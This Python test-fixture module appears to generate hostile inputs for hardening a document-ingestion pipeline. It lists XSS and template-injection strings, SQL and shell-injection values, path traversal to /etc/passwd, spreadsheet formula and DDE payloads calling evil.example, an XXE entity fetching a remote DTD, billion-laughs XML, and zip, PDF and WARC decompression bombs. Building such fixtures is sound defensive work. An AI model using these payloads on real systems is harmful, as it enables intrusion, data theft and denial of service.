"""Inputs of an enemy, made in code: what stands in texts, names, cells and logs, and files that are not what they say."""

import gzip
import io
import json
import zipfile

from warcio.statusandheaders import StatusAndHeaders
from warcio.warcwriter import WARCWriter

_MARKUP = """<script>window.pwned=1</script>
<img src=x onerror=window.pwned=1>
<svg onload=window.pwned=1>
<svg><script>window.pwned=1</script></svg>
<body onload=window.pwned=1>
<iframe src=javascript:window.pwned=1></iframe>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
<a href=javascript:window.pwned=1>click</a>
<a href="JaVaScRiPt&colon;window.pwned=1">click</a>
<a href="data:text/html,<script>window.pwned=1</script>">click</a>
<math><mi xlink:href="javascript:window.pwned=1">x</mi></math>
<object data=javascript:window.pwned=1></object>
<embed src=http://evil.example/x.swf>
<link rel=stylesheet href=http://evil.example/x.css>
<style>@import url(http://evil.example/x.css)</style>
<style>*{background:url(http://evil.example/x)}</style>
<meta http-equiv=refresh content="0;url=http://evil.example/">
<base href=http://evil.example/>
<form action=http://evil.example/><input autofocus onfocus=window.pwned=1></form>
<details open ontoggle=window.pwned=1>
<video><source onerror=window.pwned=1></video>
<audio src=x onerror=window.pwned=1>
<marquee onstart=window.pwned=1>x</marquee>
<template><script>window.pwned=1</script></template>
<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">
</td></tr></table><script>window.pwned=1</script>
</title><script>window.pwned=1</script>
</style><script>window.pwned=1</script>
</script><script>window.pwned=1</script>
</textarea><script>window.pwned=1</script>
"><script>window.pwned=1</script>
'><script>window.pwned=1</script>
" onmouseover="window.pwned=1" x="
' onmouseover='window.pwned=1' x='
` onmouseover=`window.pwned=1`
--><script>window.pwned=1</script><!--
]]><script>window.pwned=1</script><![CDATA[
<![CDATA[<script>window.pwned=1</script>]]>
<!--[if IE]><script>window.pwned=1</script><![endif]-->
<?php system('id'); ?>
<% system('id') %>
<scr<script>ipt>window.pwned=1</scr</script>ipt>
<<script>window.pwned=1//<</script>
<script/x>window.pwned=1</script/x>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.pwned=1>
&lt;script&gt;window.pwned=1&lt;/script&gt;
&amp;lt;script&amp;gt;window.pwned=1&amp;lt;/script&amp;gt;
&#60;script&#62;window.pwned=1&#60;/script&#62;
＜script＞window.pwned=1＜/script＞
\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e
%3Cscript%3Ewindow.pwned=1%3C/script%3E
{{ config }}
{{ 7*7 }}{% for x in y %}
${7*7}#{7*7}
{0.__class__.__mro__}
%s%n%x
$\\frac{1}{0$
$$\\unsafe{\\href{javascript:window.pwned=1}{x}}$$
![x](http://evil.example/x.png)
[click](javascript:window.pwned=1)
`` `<script>window.pwned=1</script>` ``
';DROP TABLE claims;--
$(touch pwned)
`touch pwned`
../../../../etc/passwd
file:///etc/passwd
\\\\evil.example\\share""".split("\n")
_MARKS = [
    "\u202egnp.exe\u202c", "\u2066isolated\u2069", "\u2067right\u2069", "\u202aembedded", "pass\u200dword", "zero\u200bwidth", "\u200e\u200fmarks", "\ufeffmark in the middle\ufeff",
    "tags \U000e0041\U000e0042", "e" + "\u0301" * 60, "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "nul \x00 nul", "line\x85feed\u2028here\u2029", "\x0b\x0c tabs \t\t", "İıſßK", "\ufdfa" * 5, "👨\u200d👩\u200d👧",
]  # fmt: skip
_FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1", "=cmd|'/c calc'!A1", '=HYPERLINK("http://evil.example","x")', "=WEBSERVICE(\"http://evil.example\")", "=IMPORTXML(CONCAT(\"http://evil.example\"),\"//a\")",
    "＝1+1", "＋1", "－1", "＠SUM(1)", '"=1+1"', "'=1+1", ";=1+1", ",=1+1", "=1+1;=1+1", "{=1+1}", "DDE(\"cmd\";\"/c calc\";\"x\")", "#REF!",
]  # fmt: skip
#: What stands in a text, a title, a name, a cell or a note.
PIECES = [*_MARKUP, *_MARKS, *_FORMULAS]

#: Names of files, as a POSIX file system takes them.
NAMES = [
    "<img src=x onerror=alert(1)>.txt", "<script>alert(1)<script>.txt", "=1+1.txt", "+1.txt", "-1.txt", "@x.txt", "'quoted'.txt", '"quoted".txt', "a,b;c.txt", "two\nlines.txt", "tab\there.txt", "cr\rhere.txt",
    "\x1b[31mred.txt", "\u202etxt.exe.txt", "zero\u200bwidth.txt", "zero\u200dwidth.txt", "e\u0301.txt", "é.txt", "洪水.txt", "😀.txt", "#frag.txt", "a#b.txt", "a?b=c.txt", "%2e%2e%2fx.txt", "con.txt", "a" * 240 + ".txt",
    "$(touch x).txt", "`touch x`.txt", "; rm -rf x.txt", "--help.txt", "{{ 7*7 }}.txt", "C:\\x.txt", "a\\b.txt", "\\\\evil\\x.txt", "javascript:alert(1).txt", " leading.txt", "trailing .txt", "dot..txt", "unknown.txt", "file.txt", "NUL.txt", "COM1.html", "é" * 120 + ".txt", "洪" * 80 + ".txt",
]  # fmt: skip

_DEEP = 100_000
#: case.toml
SETTINGS = {
    "deep lists": "title = " + "[" * _DEEP, "deep tables": "x = " + "{a=" * _DEEP, "deep keys": ".".join(["a"] * 5_000) + " = 1", "deep headers": "[" + ".".join(["a"] * 5_000) + "]\nx = 1",
    "a number without end": "title = " + "9" * 100_000, "a hexadecimal one": "title = 0x" + "f" * 100_000, "an exponent": "title = 1e999999999", "not a number": "title = nan", "a day": "title = 2024-02-30",
    "a title of a megabyte": 'title = "' + "x" * 1_000_000, "many keys": "\n".join(f"k{n} = 1" for n in range(2_000)), "a key twice": "title = 'a'\ntitle = 'b'", "options that are none": "options = 1",
    "options in a list": "[[options]]\npolicy = 'range'", "nul": "title = '\x00'", "a broken escape": 'title = "\\ud800"', "a long escape": 'title = "\\UFFFFFFFF"', "names of Python": "__class__ = 1\n[options]\n__init__ = 1",
    "a policy of markup": "[options]\npolicy = '<script>'", "measures that are tables": "[options]\nmeasures = [{a = 1}]", "an order without end": "[options]\npolicy = 'source_order'\nsource_order = " + json.dumps(["x"] * 10_000),
}  # fmt: skip

#: Rows of sources.csv: id, name, kind, side, parent, aliases, wikidata, note
REGISTRY = {
    "markup as id": "<script>,A,government", "formula as id": "=1+1,A,government", "path as id": "../a,A,government", "bar in an id": "a|b,A,government", "a reserved id": "article,A,government",
    "letters that only look so": "а,A,government", "an id of many letters": "a" * 10_000 + ",A,government", "kind of markup": "a,A,<script>", "a name of patterns": 'a,"(.*)+$",government', "an alias of patterns": 'a,A,government,,,"(a+)+b|[|\\|(?P<x>"',
    "bars alone": "a,A,government,,," + "|" * 10_000, "aliases without number": "a,A,government,,," + "|".join(f"n{n}" for n in range(5_000)), "a name of blanks": 'a," \u200b ",government', "a name turned round": "a,\u202eA,government",
    "its own parent": "a,A,government,,a", "a parent of markup": "a,A,government,,<b>", "cells without end": "a,A,government" + ",x" * 10_000, "a quote never closed": 'a,"A,government', "wikidata that is an address": "a,A,government,,,,javascript:alert(1)", "nul": "a,A\x00,government",
}  # fmt: skip

_LINE = {"id": "x", "at": "2025-01-31T09:30:00Z", "by": "ana", "action": "accept", "table": "figures", "target": "a:0-3", "article_id": "a", "article_sha256": None, "position": None, "quote": None, "field": None, "from": None, "to": None, "why": None, "undoes": None}


def _line(**changes):
    return json.dumps(_LINE | changes).encode()


#: corrections.jsonl
LOG = {
    "deep lists": b"[" * _DEEP, "deep objects": b'{"a":' * _DEEP, "a deep value": _line(to=0).replace(b'"to": 0', b'"to": ' + b"[" * _DEEP + b"]" * _DEEP), "a number without end": b'{"id": ' + b"9" * 100_000 + b"}",
    "not a number": _line(to=float("nan")), "without end": _line(to=float("inf")), "a list": b"[1]", "null": b"null", "a text": b'"x"', "a key twice": b'{"id": "a", "id": "b"}', "no UTF-8": b'{"id": "\xff"}', "half a pair": b'{"id": "\\ud800"}', "nul": b"\x00" * 100,
    "one megabyte": _line(why="x" * 1_000_000), "a day before all days": _line(at="0001-01-01T00:00:00+14:00"), "one after": _line(at="9999-12-31T23:59:59-12:00"), "no zone": _line(at="2025-01-31T09:30:00"), "a place beyond numbers": _line(position={"start": 0, "end": 10**30}),
    "a place before": _line(position={"start": -5, "end": 3}), "a place of lists": _line(position=[0, 3]), "a quote of lists": _line(quote={"exact": [], "prefix": {}, "suffix": 1}), "an id of lists": _line(id=["x"]), "a target of lists": _line(target=["x"]), "a table of Python": _line(table="__class__"),
    "an action of markup": _line(action="<script>"), "a field of Python": _line(action="set", field="__class__", **{"from": 1, "to": 2}), "a value beyond numbers": _line(action="set", field="value", **{"from": 2, "to": 10**30}), "a measure of markup": _line(action="set", field="measure", **{"from": "injured", "to": "<script>"}),
    "an undo of itself": _line(action="undo", undoes="x"), "an undo of nothing": _line(action="undo", undoes="../x"), "prototype": b'{"__proto__": {"x": 1}}',
}  # fmt: skip


def _zip(**parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name.replace("__", "/").replace("_xml", ".xml"), data)
    return out.getvalue()


def _lying_zip():
    """A part that says it is small and is not."""
    data = bytearray(_zip(word__document_xml=b"0" * 50_000_000))
    real = (50_000_000).to_bytes(4, "little")
    return bytes(data.replace(real, (100).to_bytes(4, "little")))


_LAUGHS = b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "haha">' + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(20)) + b"]>"
_OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://evil.example/x.dtd">%y;]>'
_RSS = b"<rss version='2.0'><channel><title>T</title><item><title>x</title><link>http://a.example/</link><description>%s</description></item></channel></rss>"


def _pdf(pages=1, stream=b"BT ET", flate=False):
    kids = b" ".join(b"%d 0 R" % (4 + n) for n in range(pages))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count %d /Kids [%s] >>" % (pages, kids), b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(stream), b"/Filter /FlateDecode " * flate, stream)]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 3 0 R >>"] * pages
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))


def _zlib(size):
    import zlib

    return zlib.compress(b"0 0 m " * (size // 6))


def warc(*answers, zipped=False):
    """A WARC file of (url, status, content type, body); the same whenever it is made."""
    out = io.BytesIO()
    writer = WARCWriter(out, gzip=zipped)
    for number, (url, status, kind, body) in enumerate(answers):
        headers = StatusAndHeaders(status, [("Content-Type", kind)], protocol="HTTP/1.1")
        record = writer.create_warc_record(url, "response", payload=io.BytesIO(body), http_headers=headers, warc_headers_dict={"WARC-Date": "2024-05-07T10:00:00Z"})
        record.rec_headers.replace_header("WARC-Record-ID", f"<urn:uuid:{number:032}>")
        writer.write_record(record)
    return out.getvalue()


def _page(body):
    return warc(("http://a.example/", "200 OK", "text/html", body))


#: Files of every type that is read, made when they are asked for.
BOMBS = {
    "zip.docx": lambda: _zip(word__document_xml=b"0" * 300_000_000), "lying.docx": _lying_zip, "empty.docx": lambda: _zip(a=b""), "parts.docx": lambda: _zip(**{f"p{n}": b"" for n in range(6_000)}),
    "laughs.docx": lambda: _zip(word__document_xml=_LAUGHS + b"<a>&t;</a>"), "zip.wacz": lambda: _zip(archive__a=b"0" * 300_000_000), "up.wacz": lambda: _zip(**{"..__..__pwned_xml": b"x"}), "parts.wacz": lambda: _zip(**{f"archive/{n}.warc": b"" for n in range(10_100)}),
    "bomb.warc.gz": lambda: gzip.compress(_page(b"<p>" + b"0" * 60_000_000)), "length.warc": lambda: _page(b"x").replace(b"Content-Length: ", b"Content-Length: 9999999999"), "minus.warc": lambda: _page(b"x").replace(b"Content-Length: ", b"Content-Length: -"),
    "pages.pdf": lambda: _pdf(10_000), "inflates.pdf": lambda: _pdf(1, _zlib(300_000_000), flate=True), "self.pdf": lambda: _pdf().replace(b"/Contents 3 0 R", b"/Parent 4 0 R  "), "kids.pdf": lambda: _pdf().replace(b"/Kids [4 0 R]", b"/Kids [2 0 R]"), "deep.pdf": lambda: _pdf(1, b"[" * 100_000),
    "deep.html": lambda: b"<div>" * 100_000 + b"x", "attributes.html": lambda: b"<p " + b" ".join(b"a%d=1" % n for n in range(5_000)) + b">x", "script.html": lambda: b"<script>window.pwned=1</script>", "tables.html": lambda: b"<table><tr><td>" * 5_000,
    "json.html": lambda: b'<script type="application/ld+json">' + b"[" * 200_000 + b"</script>", "entities.html": lambda: b"&amp;" * 100_000, "quotes.html": lambda: b'<p class="' * 20_000, "laughs.xml": lambda: _LAUGHS + _RSS % b"&t;", "outside.xml": lambda: _OUTSIDE + _RSS % b"&x;", "deep.xml": lambda: b"<a>" * 100_000,
    "deep.rss": lambda: _RSS % (b"<b>" * 50_000), "parts.eml": lambda: b"From: a\nContent-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n" * 8_000, "nested.eml": lambda: b"".join(b"From: a\nContent-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(500)),
    "header.eml": lambda: b"From: " + b"=?utf-8?q?" * 20_000 + b"\n\nx", "wide.csv": lambda: b"text," * 50_000 + b"\nx", "long.csv": lambda: b'text\n"' + b"x" * 11_000_000, "deep.jsonl": lambda: b"[" * 100_000, "number.jsonl": lambda: b'{"text": ' + b"9" * 100_000 + b"}", "proto.jsonl": lambda: b'{"__proto__": {"text": "x"}}',
    "lies.parquet": lambda: b"PAR1" + b"\xff" * 1000 + b"PAR1", "page.mhtml": lambda: b"Content-Type: multipart/related; boundary=b\n\n" + b"--b\n" * 10_000, "nul.txt": lambda: b"\x00" * 1000, "random.txt": lambda: bytes(range(256)) * 20, "bom.txt": lambda: b"\xff\xfe" + b"\xd8\x00" * 999,
}  # fmt: skip
